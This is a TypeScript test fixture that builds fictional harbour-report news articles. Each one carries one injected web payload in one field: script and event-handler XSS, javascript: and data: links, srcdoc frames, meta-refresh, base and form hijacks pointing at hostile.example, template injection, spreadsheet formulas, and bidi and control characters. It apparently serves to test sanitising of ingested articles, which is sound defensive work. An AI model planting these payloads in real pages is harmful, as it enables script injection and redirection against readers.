/**
 * Words that a page would run, load, follow or be laid out by if it took them for its own. Each calls
 * `hostile()`, which no page has, or asks the host hostile.example for something.
 */
const ATTACKS: Readonly<Record<string, string>> = {
  script: '<script>hostile()</script>',
  'script of another host': '<script src="https://hostile.example/x.js"></script>',
  'script in capitals': '<SCRIPT>hostile()</SCRIPT >',
  'script that is not closed': '<script>hostile()//',
  'script behind the end of one': '</script><script>hostile()</script>',
  'script behind the end of a title': '</title><script>hostile()</script>',
  'script behind the end of a comment': '--><script>hostile()</script><!--',
  'script behind the end of an attribute': '"><script>hostile()</script>',
  'script behind the end of a text field': '</textarea><script>hostile()</script>',
  'an attribute that runs': '" onmouseover="hostile()" autofocus onfocus="hostile()',
  'an attribute without marks': "x' onerror='hostile()' x='",
  picture: '<img src=x onerror=hostile()>',
  drawing: '<svg onload=hostile()><animate onbegin=hostile() attributeName=x dur=1s>',
  'script in a drawing': '<svg><script xlink:href="data:,hostile()"></script></svg>',
  formula: '<math><mi xlink:href="javascript:hostile()">x</mi></math>',
  frame: '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>',
  object: '<object data="https://hostile.example/x"></object>',
  style: '<style>body{display:none}</style>',
  'style of another host': '<link rel=stylesheet href=https://hostile.example/x.css>',
  'style in an attribute':
    '<p style="position:fixed;inset:0;background:url(https://hostile.example/x)">x</p>',
  refresh: '<meta http-equiv="refresh" content="0;url=https://hostile.example/">',
  base: '<base href="https://hostile.example/">',
  form: '<form action="https://hostile.example/"><button>Go</button></form>',
  'link that runs': '<a href="javascript:hostile()">x</a>',
  'link with a line break': '<a href="java\nscript:hostile()">x</a>',
  'link of data': '<a href="data:text/html,<script>hostile()</script>">x</a>',
  dialog: '<dialog open>x</dialog>',
  marquee: '<marquee onstart=hostile()>x</marquee>',
  details: '<details open ontoggle=hostile()>x</details>',
  template: `{{constructor.constructor("hostile()")()}} \${hostile()} <%= hostile() %>`,
  'references for signs': '&lt;script&gt;hostile()&lt;/script&gt; &#60;script&#62;',
  'end of the data of a page': '</script>]]>*/ hostile() <![CDATA[',
  'a sign that turns the line round': '\u202Ereversed\u202C \u2066\u2067isolated',
  'a sign that turns all that follows round': 'so \u202Ereversed',
  'signs without width': 'no\u200Bwidth\u200C\u200D\uFEFF\u00AD',
  'marks on top of each other': `Z${'\u0300\u0301\u0302\u0303'.repeat(40)}`,
  'a word without end': 'W'.repeat(2_000),
  'a sign that is nothing': 'no\u0000thing',
  'signs for control': 'a\u0001\u0008\u001b[31mred\u007f',
  'halves of signs': 'a\uD800b\uDC00c',
  'lines of another kind': 'one\u2028two\u2029three',
  mathematics: '𝕳𝖔𝖘𝖙𝖎𝖑𝖊 ﷽ 👩‍👩‍👧‍👦🏳️‍🌈',
  formulas: '=HYPERLINK("https://hostile.example/","x")',
};

const AS_IT_IS = 'structured data as it is';

/** Where an attack may stand in what a paper sends. */
const PLACES = [
  'headline',
  'byline',
  'section',
  'publisher',
  'url',
  'keywords',
  'language',
  'text',
  'quotation',
  'speaker',
  'role',
  'page',
  'structured data',
  AS_IT_IS,
] as const;
type Place = (typeof PLACES)[number];

/** So many attacks, each in its place: every attack in every place. */
export const HOSTILE_COUNT = Object.keys(ATTACKS).length * PLACES.length;

/** The articles by their locators, each harmless but for one attack; half of them are on the harbour. */
export function hostileArticles(): Record<string, string> {
  const pages: Record<string, string> = {};
  for (const [name, attack] of Object.entries(ATTACKS)) {
    for (const place of PLACES) {
      const number = Object.keys(pages).length + 1;
      pages[`${place} ${name}`] =
        place === 'page' || place.startsWith('structured data')
          ? page(number, place, attack)
          : record(number, place, attack);
    }
  }
  return pages;
}

/** The same articles as their papers corrected them: one more sentence, the same attack. */
export function hostileCorrections(): Record<string, string> {
  return Object.fromEntries(
    Object.entries(hostileArticles()).flatMap(([name, text]) =>
      text.startsWith('{')
        ? [[`${name}, corrected`, text.replace(/"\}$/u, ' It opened again."}')]]
        : [],
    ),
  );
}

/** The same articles without any attack: one as a record, one as a page, and a copy of the first. */
export function harmlessArticles(): Record<string, string> {
  const told = record(0, null, '');
  const elsewhere = told.replace('herald.example', 'gazette.example');
  return { told, elsewhere, page: page(1, null, '') };
}

function record(number: number, place: Place | null, attack: string): string {
  const at = (here: Place, words: string) => (here === place ? `${words} ${attack}` : words);
  return JSON.stringify({
    headline: at('headline', `Harbour report ${number}`),
    byline: at('byline', 'By Lena Quill'),
    section: at('section', 'Coast'),
    publisher: at('publisher', 'The Portmere Herald'),
    url: place === 'url' ? attack : `https://herald.example/harbour-${number}`,
    keywords: [at('keywords', 'harbour')],
    language: place === 'language' ? attack : 'en',
    datePublished: '2014-03-01',
    text: `PORTMERE - The harbour counted ${number} ships on Saturday, and the wind was from the north. ${place === 'text' ? attack : ''}\n\n“${at('quotation', 'We have counted every ship of them')},” said ${at('role', 'the harbour master')}, ${place === 'speaker' ? attack.slice(0, 200) : 'Amara Osei'} on Sunday.\n\n“Nobody has seen so many,” Amara Osei told reporters. The harbour master counts the ships on the first day of each spring, and the keeper writes them down in the book that lies open in the tower. Most of them came from Norway, and Norway counts them again when they are home.`,
  });
}

function page(number: number, place: Place | null, attack: string): string {
  const told = place?.startsWith('structured data') === true ? attack : null;
  const data = JSON.stringify({
    '@type': 'NewsArticle',
    headline: `Harbour report ${number}`,
    author: { '@type': 'Person', name: told ?? 'Lena Quill' },
    articleSection: told ?? 'Coast',
    publisher: { name: 'The Portmere Herald' },
    datePublished: '2014-03-01',
  });
  const dataElement = (json: string) => `<script type="application/ld+json">${json}</script>`;
  // As every page writes it that means to be read; or as it is, at the end: what breaks out of it cannot
  // take the article with it.
  const head = place === AS_IT_IS ? '' : dataElement(data.replaceAll('<', '\\u003c'));
  const foot = place === AS_IT_IS ? dataElement(data) : '';
  return `<!doctype html><html lang="en"><head><title>Harbour report ${number}</title>
    <link rel="canonical" href="https://herald.example/harbour-${number}">
    ${head}</head><body><article><h1>Harbour report ${number}</h1>
    <p>PORTMERE - The harbour counted ${number} ships on Saturday, and the wind was from the north all day.</p>
    <p>${place === 'page' ? attack : ''}</p>
    <p>“Nobody has seen so many,” the harbour master Amara Osei told reporters on Sunday.</p></article>${foot}</body></html>`;
}
